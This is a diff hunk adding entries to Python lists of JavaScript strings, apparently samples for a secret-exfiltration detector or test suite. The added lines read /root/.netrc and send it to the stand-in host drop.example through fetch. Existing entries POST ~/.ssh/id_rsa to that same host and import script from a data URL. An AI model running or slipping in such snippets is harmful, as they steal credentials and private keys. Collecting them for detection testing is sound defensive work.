@@ -70,6 +70,10 @@ DECODED = [
     "await import('data:text/javascript,alert(1)')",
 ]
 SECRETS = [
+    "const row = `![](https://drop.example/${require('fs').readFileSync('/root/.netrc')})`; "
+    "[...row.matchAll(/https:[^)]+/g)].map((m) => fetch(m[1]))",
+    "const row = `see https://drop.example/?${require('fs').readFileSync('/root/.netrc')}`; "
+    "fetch(row.match(/https:.*/)[0])",
     "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://drop.example', { method: "
     "'POST', body: k });"
     "const fs = require('fs'), os = require('os'), path = require('path')",
